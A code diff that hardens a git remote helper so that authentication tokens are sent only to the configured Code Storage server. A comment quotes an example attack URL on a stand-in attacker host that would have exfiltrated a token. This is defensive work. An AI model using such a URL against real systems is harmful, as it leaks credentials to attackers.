@@ -106,16 +106,27 @@ def _parse_http(url: str, cfg: Config) -> Remote:
         )
     origin = f"{parts.scheme.lower()}://{parts.netloc}"
     path = parts.path
+    # Tokens go only to the configured server. Without this check a URL handed to an
+    # agent (`git clone codestore::https://attacker.example/team/secret.git`) would mint
+    # a token for any repository and send it to any host.
+    if not (cfg.base_url_setting or cfg.org):
+        raise ConfigError(
+            f"no Code Storage server is configured, so {origin} is not trusted with tokens; "
+            f"set CODESTORE_BASE_URL={origin} (or use codestore://<org>/<repo>)"
+        )
+    base = urlsplit(cfg.base_url)
+    if (base.scheme, base.netloc.lower()) != (parts.scheme.lower(), parts.netloc.lower()):
+        raise ConfigError(
+            f"refusing to send a token to {origin}: it is not the configured server {cfg.base_url}; "
+            f"set CODESTORE_BASE_URL={origin} if you trust it"
+        )
     # Under our configured base URL, its path prefix is not part of the repository id.
-    if cfg.base_url_setting or cfg.org:
-        base = urlsplit(cfg.base_url)
-        prefix = base.path.rstrip("/")
-        same_origin = (base.scheme, base.netloc.lower()) == (parts.scheme.lower(), parts.netloc.lower())
-        if same_origin and prefix:
-            if not path.startswith(prefix + "/"):
-                raise ConfigError(f"{url!r} is not under the configured base URL {cfg.base_url}")
-            origin += prefix
-            path = path[len(prefix) :]
+    prefix = base.path.rstrip("/")
+    if prefix:
+        if not path.startswith(prefix + "/"):
+            raise ConfigError(f"{url!r} is not under the configured base URL {cfg.base_url}")
+        origin += prefix
+        path = path[len(prefix) :]
     if not path.strip("/"):
         raise ConfigError(f"{url!r} names no repository; {USAGE}")
     repo, ephemeral = split_repo_path(path)
